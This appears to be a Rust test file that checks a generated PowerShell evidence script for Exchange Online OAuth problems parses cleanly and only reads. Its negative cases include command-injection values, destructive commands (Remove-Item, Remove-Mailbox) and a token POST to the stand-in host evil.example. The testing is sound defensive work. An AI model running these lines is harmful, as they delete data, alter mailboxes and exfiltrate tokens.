//! The evidence script (`remedy::render_evidence_script`) is read-only, parses, and keeps values
//! inside literals.
//!
//! Every generated script (protocol × cloud × language × with and without values, plus hostile
//! values through the real path) is parsed with the PowerShell grammar (the `tree-sitter-powershell`
//! crate) and must have no `ERROR` or `MISSING` node. Then every command in it must be one that
//! cannot change state: its verb in [`READ_VERBS`], or one of [`READ_COMMANDS`]; `New-Object` only
//! for [`NEW_OBJECT_TYPES`]; `Invoke-RestMethod` only with `-Uri $TokenUrl`, and `$TokenUrl` only
//! assigned the cloud's token endpoint; `& $Run` (the section runner) the only command whose name
//! is not a word. Every type the script names (casts, `[Type]::Member`, attributes) is in
//! [`TYPES`], so no .NET call that writes (a file, the registry) can hide behind a method call.
//! No redirection, no PowerShell 7 operator (`&&`, `||`, `??`, `?.`, ternary).
//! `broken_scripts_are_caught` shows the check failing on scripts broken on purpose.

#[path = "common/known.rs"]
#[allow(dead_code)]
mod known;

mod common;

use exo_oauth_doctor::evidence::{Cloud, Protocol};
use exo_oauth_doctor::remedy::{evidence_script, ps1_file, render_evidence_script, EvidenceValues};
use exo_oauth_doctor::{analyze, Hints, Lang, Options};
use tree_sitter::{Node, Parser, Tree};

/// Verbs that only read, print or connect a session.
const READ_VERBS: &[&str] = &[
    "Get",
    "Test",
    "Connect",
    "Disconnect",
    "Import",
    "Read",
    "Write",
    "Select",
    "Where",
    "Format",
    "ConvertTo",
    "ConvertFrom",
];

/// Other commands that cannot change state.
const READ_COMMANDS: &[&str] = &["Out-String", "Out-Host", "Out-Null", "ForEach-Object"];

/// The .NET types `New-Object` may create (network streams and text readers/writers on them).
const NEW_OBJECT_TYPES: &[&str] = &[
    "System.Net.Sockets.TcpClient",
    "System.Net.Security.SslStream",
    "System.IO.StreamReader",
    "System.IO.StreamWriter",
];

/// Every type the script may name (lower case).
const TYPES: &[&str] = &[
    "cmdletbinding",
    "parameter",
    "validatepattern",
    "validateset",
    "guid",
    "string",
    "switch",
    "scriptblock",
    "byte[]",
    "char",
    "pscustomobject",
    "convert",
    "datetimeoffset",
    "system.text.encoding",
    "system.security.cryptography.x509certificates.rsacertificateextensions",
    "system.security.cryptography.hashalgorithmname",
    "system.security.cryptography.rsasignaturepadding",
    "system.security.authentication.sslprotocols",
    "system.net.servicepointmanager",
    "system.net.securityprotocoltype",
    "system.runtime.interopservices.marshal",
];

/// The login host of each cloud's token endpoint.
const LOGIN_HOSTS: &[&str] = &[
    "login.microsoftonline.com",
    "login.microsoftonline.us",
    "login.partner.microsoftonline.cn",
    "login.microsoftonline.de",
];

fn parser() -> Parser {
    let mut p = Parser::new();
    p.set_language(&tree_sitter_powershell::LANGUAGE.into())
        .expect("the PowerShell grammar loads");
    p
}

fn walk<'t>(tree: &'t Tree) -> Vec<Node<'t>> {
    let mut out = Vec::new();
    let mut stack = vec![tree.root_node()];
    while let Some(n) = stack.pop() {
        out.push(n);
        let mut c = n.walk();
        stack.extend(n.children(&mut c));
    }
    out
}

/// Everything wrong with `script`: parse errors, commands that could change state, unknown types,
/// a token request to anywhere but the token endpoint, redirections and operators beyond 5.1.
fn problems(p: &mut Parser, script: &str) -> Vec<String> {
    let tree = p.parse(script, None).expect("a tree");
    let text = |n: Node| script[n.byte_range()].to_string();
    let at = |n: Node| format!("line {}", n.start_position().row + 1);
    let mut out = Vec::new();
    for n in walk(&tree) {
        if n.is_error() || n.is_missing() {
            out.push(format!("parse error at {}: {:?}", at(n), text(n)));
            continue;
        }
        let kind = n.kind();
        if kind.contains("redirect") {
            out.push(format!("redirection at {}: {:?}", at(n), text(n)));
        }
        if ["&&", "||", "??", "??=", "?.", "?[", "ternary_expression"].contains(&kind) {
            out.push(format!("operator {kind} (not in 5.1) at {}", at(n)));
        }
        if kind == "type_literal" || kind == "attribute_name" {
            let t = text(n);
            let name = t.strip_prefix('[').unwrap_or(&t);
            let name = name.strip_suffix(']').unwrap_or(name).to_ascii_lowercase();
            if !TYPES.contains(&name.as_str()) {
                out.push(format!("type {t} not allowed at {}", at(n)));
            }
        }
        if kind != "command" {
            continue;
        }
        let whole = text(n);
        let Some(name) = n.child_by_field_name("command_name") else {
            out.push(format!("command without a name at {}: {whole:?}", at(n)));
            continue;
        };
        let name_text = text(name);
        if name.kind() != "command_name" {
            if whole.trim() != "& $Run" {
                out.push(format!("command by expression at {}: {whole:?}", at(n)));
            }
            continue;
        }
        let verb = name_text.split('-').next().unwrap_or_default();
        let ok = if name_text.eq_ignore_ascii_case("New-Object") {
            let ty = whole
                .split_whitespace()
                .skip_while(|w| !w.eq_ignore_ascii_case("-TypeName"))
                .nth(1)
                .unwrap_or_default();
            NEW_OBJECT_TYPES.contains(&ty)
        } else if name_text.eq_ignore_ascii_case("Invoke-RestMethod") {
            whole.contains(" -Uri $TokenUrl ") && !whole.contains("-OutFile")
        } else {
            name_text.contains('-')
                && (READ_VERBS.iter().any(|v| v.eq_ignore_ascii_case(verb))
                    || READ_COMMANDS
                        .iter()
                        .any(|c| c.eq_ignore_ascii_case(&name_text)))
        };
        if !ok {
            out.push(format!("command not read-only at {}: {whole:?}", at(n)));
        }
    }
    // `$TokenUrl` is the cloud's token endpoint and nothing else.
    let assigned: Vec<&str> = script
        .lines()
        .map(str::trim)
        .filter(|l| l.starts_with("$TokenUrl") && l.contains('='))
        .collect();
    for l in &assigned {
        let good = LOGIN_HOSTS
            .iter()
            .any(|h| *l == format!("$TokenUrl = 'https://{h}/' + $Tenant + '/oauth2/v2.0/token'"));
        if !good {
            out.push(format!("$TokenUrl assigned something else: {l}"));
        }
    }
    if assigned.len() != 1 {
        out.push(format!("$TokenUrl assigned {} times", assigned.len()));
    }
    out
}

const APP: &str = "6233fba6-0198-4277-892f-9275bf728bcc";
const PROTOCOLS: [Option<Protocol>; 4] = [
    None,
    Some(Protocol::Imap),
    Some(Protocol::Pop),
    Some(Protocol::Smtp),
];
const CLOUDS: [Cloud; 5] = [
    Cloud::Global,
    Cloud::UsGovGccHigh,
    Cloud::UsGovDod,
    Cloud::China,
    Cloud::Germany,
];

fn with_values(protocol: Option<Protocol>, cloud: Cloud) -> EvidenceValues {
    EvidenceValues {
        app_id: Some(APP.into()),
        tenant: Some("contoso.onmicrosoft.com".into()),
        mailbox: Some("o'brien@contoso.com".into()),
        protocol,
        cloud,
    }
}

/// Every combination, labelled.
fn all_scripts() -> Vec<(String, String)> {
    let mut out = Vec::new();
    for protocol in PROTOCOLS {
        for cloud in CLOUDS {
            for lang in [Lang::En, Lang::De] {
                let full = with_values(protocol, cloud);
                let bare = EvidenceValues {
                    protocol,
                    cloud,
                    ..EvidenceValues::default()
                };
                for (what, v) in [("values", full), ("no values", bare)] {
                    out.push((
                        format!("{protocol:?} {cloud:?} {lang:?} {what}"),
                        render_evidence_script(&v, lang),
                    ));
                }
            }
        }
    }
    out
}

#[test]
fn every_evidence_script_parses_and_only_reads() {
    let mut p = parser();
    let all = all_scripts();
    assert_eq!(all.len(), 4 * 5 * 2 * 2);
    let mut failures = Vec::new();
    for (label, script) in &all {
        for problem in problems(&mut p, script) {
            failures.push(format!("{label}: {problem}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn broken_scripts_are_caught() {
    let mut p = parser();
    let good = render_evidence_script(&with_values(Some(Protocol::Imap), Cloud::Global), Lang::En);
    assert!(problems(&mut p, &good).is_empty());
    let end = "Write-Output '=== exo-oauth-doctor end ==='";
    let broken: &[(&str, &str)] = &[
        (
            "Set-CASMailbox -Identity $Mailbox -ImapEnabled $true",
            "not read-only",
        ),
        ("Remove-Item -Path $env:TEMP -Recurse", "not read-only"),
        (
            "Add-MailboxPermission -Identity $Mailbox -User $App -AccessRights FullAccess",
            "not read-only",
        ),
        ("iex 'Remove-Mailbox x'", "not read-only"),
        (
            "New-Object -TypeName System.IO.FileStream -ArgumentList @('x', 2)",
            "not read-only",
        ),
        (
            "Invoke-RestMethod -Method Post -Uri 'https://evil.example/x' -Body $Body",
            "not read-only",
        ),
        (
            "Invoke-RestMethod -Method Post -Uri $TokenUrl -Body $Body -OutFile x.txt",
            "not read-only",
        ),
        (
            "[System.IO.File]::WriteAllText('x.txt', $Token)",
            "type [System.IO.File]",
        ),
        ("Write-Output $Token > token.txt", "redirection"),
        (
            "$TokenUrl = 'https://evil.example/token'",
            "$TokenUrl assigned",
        ),
        (
            "& ([scriptblock]::Create('Remove-Mailbox x'))",
            "command by expression",
        ),
        ("if ($Exo) { Write-Output 'x'", "parse error"),
        ("Get-Mailbox && Get-CASMailbox", "not in 5.1"),
    ];
    for (line, want) in broken {
        let script = good.replace(end, &format!("{line}\n{end}"));
        let found = problems(&mut p, &script);
        assert!(
            found.iter().any(|f| f.contains(want)),
            "{line:?} should give {want:?}, got {found:?}"
        );
    }
    // Inside a section's script block and inside a function, too.
    let nested: &[(&str, &str)] = &[
        (
            "Get-TransportConfig -ErrorAction Stop",
            "Set-TransportConfig -SmtpClientAuthenticationDisabled $false -ErrorAction Stop",
        ),
        ("$Writer.Flush()", "$Writer.Flush(); Remove-Item -Path 'x'"),
    ];
    for (from, to) in nested {
        assert!(good.contains(from), "{from}");
        let found = problems(&mut p, &good.replace(from, to));
        assert!(
            found.iter().any(|f| f.contains("not read-only")),
            "{to:?}: {found:?}"
        );
    }
}

#[test]
fn sections_follow_the_shared_contract() {
    for (label, script) in all_scripts() {
        assert!(
            script
                .trim_end()
                .ends_with("Write-Output '=== exo-oauth-doctor end ==='"),
            "{label}"
        );
        for cmd in [
            "Get-ServicePrincipal",
            "Get-MailboxPermission",
            "Get-RecipientPermission",
            "Get-CASMailbox",
            "Get-Mailbox",
            "Get-TransportConfig",
            "Test-ServicePrincipalAuthorization",
            "Get-ApplicationAccessPolicy",
            "Test-ApplicationAccessPolicy",
            "Get-MgServicePrincipal",
            "Get-MgServicePrincipalAppRoleAssignment",
        ] {
            assert!(
                script.contains(&format!("Write-Section '{cmd}' ")),
                "{label}: no section for {cmd}"
            );
        }
        assert!(
            script.contains("'=== exo-oauth-doctor section: ' + "),
            "{label}"
        );
        assert!(
            script.contains("'=== exo-oauth-doctor skipped: {0}: {1} ==='"),
            "{label}"
        );
        assert!(script.contains("Connect-MgGraph @Mg"), "{label}");
        assert!(script.contains("'Application.Read.All'"), "{label}");
        assert!(!script.contains("ReadWrite"), "{label}: a write scope");
    }
}

#[test]
fn cloud_decides_endpoints_and_environments() {
    let rows: &[(Cloud, &str, Option<&str>, &str, &str)] = &[
        (Cloud::Global, "login.microsoftonline.com", None, "Global", "IMAP = 'outlook.office365.com'; POP = 'outlook.office365.com'; SMTP = 'smtp.office365.com'"),
        (Cloud::UsGovGccHigh, "login.microsoftonline.us", Some("O365USGovGCCHigh"), "USGov", "IMAP = 'outlook.office365.us'; POP = 'outlook.office365.us'; SMTP = 'smtp.office365.us'"),
        (Cloud::UsGovDod, "login.microsoftonline.us", Some("O365USGovDoD"), "USGovDoD", ""),
        (Cloud::China, "login.partner.microsoftonline.cn", Some("O365China"), "China", ""),
    ];
    for (cloud, login, env, mg, hosts) in rows {
        let s = render_evidence_script(&with_values(None, *cloud), Lang::En);
        assert!(
            s.contains(&format!("$TokenUrl = 'https://{login}/' + $Tenant")),
            "{cloud:?}"
        );
        match env {
            Some(e) => assert!(
                s.contains(&format!("Connect-ExchangeOnline -ShowBanner:$false -ExchangeEnvironmentName {e} -ErrorAction Stop")),
                "{cloud:?}"
            ),
            None => assert!(s.contains("Connect-ExchangeOnline -ShowBanner:$false -ErrorAction Stop")),
        }
        assert!(s.contains(&format!("Environment = '{mg}'")), "{cloud:?}");
        assert!(s.contains(&format!("$Hosts = @{{ {hosts} }}")), "{cloud:?}");
    }
}

#[test]
fn values_from_the_paste_are_defaults_and_missing_ones_are_asked_for() {
    let s = render_evidence_script(&with_values(Some(Protocol::Pop), Cloud::Global), Lang::En);
    assert!(s.contains(&format!("[guid]$AppId = '{APP}',")));
    assert!(s.contains("[string]$Mailbox = 'o''brien@contoso.com',"));
    assert!(s.contains("[string]$Tenant = 'contoso.onmicrosoft.com',"));
    assert!(s.contains("[string]$Protocol = 'POP',"));
    assert!(!s.contains("Mandatory"));

    let s = render_evidence_script(&EvidenceValues::default(), Lang::En);
    for decl in ["[guid]$AppId,", "[string]$Mailbox,"] {
        let at = s.find(decl).expect(decl);
        let before: Vec<&str> = s[..at].lines().rev().take(4).collect();
        assert!(
            before
                .iter()
                .any(|l| l.contains("[Parameter(Mandatory = $true)]")),
            "{decl} is mandatory when unknown"
        );
        assert!(
            before.iter().any(|l| l.contains("NOT IN THE PASTE")),
            "{decl} is marked"
        );
    }
    assert!(s.contains("[string]$Tenant,"));
    assert!(s.contains("[string]$Protocol = 'IMAP',"));
    let de = render_evidence_script(&EvidenceValues::default(), Lang::De);
    assert!(de.contains("NICHT IM EINGEFÜGTEN"));
}

#[test]
fn languages_differ_only_in_comments_and_messages() {
    for protocol in PROTOCOLS {
        let v = with_values(protocol, Cloud::Global);
        let en = render_evidence_script(&v, Lang::En);
        let de = render_evidence_script(&v, Lang::De);
        assert!(de.contains("NUR LESEND") && !en.contains("NUR LESEND"));
        assert!(en.contains("READ-ONLY") && !de.contains("READ-ONLY"));
        let code = |s: &str| -> Vec<String> {
            s.lines()
                .map(str::trim)
                .filter(|l| !l.is_empty() && !l.starts_with('#'))
                // Message strings differ, their names do not.
                .map(|l| l.split(" = '").next().unwrap_or(l).to_string())
                .collect()
        };
        assert_eq!(code(&en), code(&de), "{protocol:?}");
    }
}

/// Hostile values in every field: each is either rejected (and appears nowhere) or, when it is a
/// valid value, stands in one single-quoted literal with its quotes doubled.
#[test]
fn hostile_values_are_rejected_or_quoted() {
    let hostile = [
        "x'; Remove-Mailbox -Identity a; '",
        "$(Remove-Item C:\\ -Recurse)",
        "a`$b@contoso.com",
        "line1\nRemove-Mailbox x",
        "6233fba6-0198-4277-892f-9275bf728bcc'; Remove-Item x; '",
        "contoso.com/../x?y=1",
        "\u{2019}; Remove-Mailbox x; \u{2018}@contoso.com",
        "{6233fba6-0198-4277-892f-9275bf728bcc}\n",
    ];
    let mut p = parser();
    for h in hostile {
        for lang in [Lang::En, Lang::De] {
            let v = EvidenceValues {
                app_id: Some(h.into()),
                tenant: Some(h.into()),
                mailbox: Some(h.into()),
                protocol: Some(Protocol::Imap),
                cloud: Cloud::Global,
            };
            let s = render_evidence_script(&v, lang);
            assert!(problems(&mut p, &s).is_empty(), "{h:?}");
            assert!(!s.contains("Remove-"), "{h:?}:\n{s}");
            assert!(!s.contains("$(Remove"), "{h:?}");
            // Through the real path: a hostile mailbox hint and a hostile token claim.
            let token = known::token(serde_json::json!({
                "aud": "https://outlook.office365.com", "iss": "https://sts.windows.net/x/",
                "appid": h, "tid": h, "oid": h, "idtyp": "app", "roles": ["IMAP.AccessAsApp"],
                "exp": known::NOW + 600, "iat": known::NOW - 600, "nbf": known::NOW - 600
            }));
            let opts = Options {
                now: known::NOW,
                lang,
                hints: Hints {
                    mailbox: Some(h.into()),
                    ..Hints::default()
                },
            };
            let a = analyze(&format!("A01 NO AUTHENTICATE failed.\n{token}\n"), &opts);
            let s = evidence_script(&a.artifacts, &a.findings, &opts.hints, lang);
            assert!(problems(&mut p, &s).is_empty(), "{h:?}");
            assert!(!s.contains("Remove-"), "{h:?}:\n{s}");
        }
    }
    // A valid address with a quote stays one literal, quote doubled; a braced GUID is normalised.
    let v = EvidenceValues {
        app_id: Some("{6233FBA6-0198-4277-892F-9275BF728BCC}".into()),
        mailbox: Some("o'brien`x$y{z}@contoso.com".into()),
        ..EvidenceValues::default()
    };
    let s = render_evidence_script(&v, Lang::En);
    assert!(s.contains(&format!("[guid]$AppId = '{APP}',")));
    assert!(s.contains("[string]$Mailbox = 'o''brien`x$y{z}@contoso.com',"));
    assert!(problems(&mut p, &s).is_empty());
}

/// The values come from the paste the way the fix script's do: the token's appid and tid, the
/// XOAUTH2 user, the cloud of the endpoint, the protocol of the reply.
#[test]
fn values_are_read_from_the_paste() {
    let token = known::token(serde_json::json!({
        "aud": "https://outlook.office365.us", "iss": "https://login.microsoftonline.us/c5a3f1e2-7b9d-4c8e-a6f4-3d2b1e0f9a8c/v2.0",
        "appid": APP, "tid": "c5a3f1e2-7b9d-4c8e-a6f4-3d2b1e0f9a8c", "oid": "0d4c3b2a-1f0e-4d9c-8b7a-6e5f4d3c2b1a",
        "idtyp": "app", "roles": ["POP.AccessAsApp"],
        "exp": known::NOW + 600, "iat": known::NOW - 600, "nbf": known::NOW - 600
    }));
    let text = format!(
        "connecting to outlook.office365.us:995\n+OK The Microsoft Exchange POP3 service is ready.\nAUTH XOAUTH2\n-ERR Authentication failure: unknown user name or bad password.\ntoken: {token}\nmailbox: docscan@contoso.com\n"
    );
    let opts = Options {
        now: known::NOW,
        hints: Hints {
            mailbox: Some("docscan@contoso.com".into()),
            ..Hints::default()
        },
        ..Options::default()
    };
    let a = analyze(&text, &opts);
    let v = EvidenceValues::from_evidence(&a.artifacts, &a.findings, &opts.hints);
    assert_eq!(v.app_id.as_deref(), Some(APP));
    assert_eq!(
        v.tenant.as_deref(),
        Some("c5a3f1e2-7b9d-4c8e-a6f4-3d2b1e0f9a8c")
    );
    assert_eq!(v.mailbox.as_deref(), Some("docscan@contoso.com"));
    assert_eq!(v.protocol, Some(Protocol::Pop));
    assert_eq!(v.cloud, Cloud::UsGovGccHigh);
}

use common::run_cli;

/// `exo-oauth-doctor collect [FILE|-] [--lang en|de]` prints the script for what the input shows.
#[test]
fn cli_collect_prints_the_evidence_script() {
    let paste = "C: A01 AUTHENTICATE XOAUTH2 dXNlcj1kb2NzY2FuQGNvbnRvc28uY29tAWF1dGg9QmVhcmVyIGV5SjBlWEFpT2lKS1YxUWlmUS5leUpoZFdRaU9pSjRJbjAuc2lnAQE=\nS: A01 NO AUTHENTICATE failed.\n";
    for (lang, flag) in [(Lang::En, "en"), (Lang::De, "de")] {
        let out = run_cli(&["collect", "-", "--lang", flag], paste.as_bytes());
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let opts = Options {
            lang,
            ..Options::default()
        };
        let a = analyze(paste, &opts);
        let want = evidence_script(&a.artifacts, &a.findings, &opts.hints, lang);
        // Not a terminal: the file form, with a byte order mark for Windows PowerShell 5.1.
        assert_eq!(String::from_utf8_lossy(&out.stdout), ps1_file(&want));
        assert!(want.contains("[string]$Mailbox = 'docscan@contoso.com',"));
        assert!(want.contains("[string]$Protocol = 'IMAP',"));
    }
    let out = run_cli(&["collect", "--json"], b"");
    assert_eq!(out.status.code(), Some(2));
    let help = run_cli(&["--help"], b"");
    assert!(String::from_utf8_lossy(&help.stdout).contains("exo-oauth-doctor collect [FILE|-]"));
}

/// Saved without a byte order mark, Windows PowerShell 5.1 reads the script in the ANSI code page:
/// the UTF-8 bytes of some characters then turn into quotes that end a string. The script's only
/// non-ASCII characters are German letters whose bytes become no quote (and no value brings any:
/// values are ASCII).
#[test]
fn only_harmless_non_ascii_characters() {
    for (label, script) in all_scripts() {
        for c in script.chars().filter(|c| !c.is_ascii()) {
            assert!("äöüÄÖÜß".contains(c), "{label}: {c:?}");
        }
    }
}
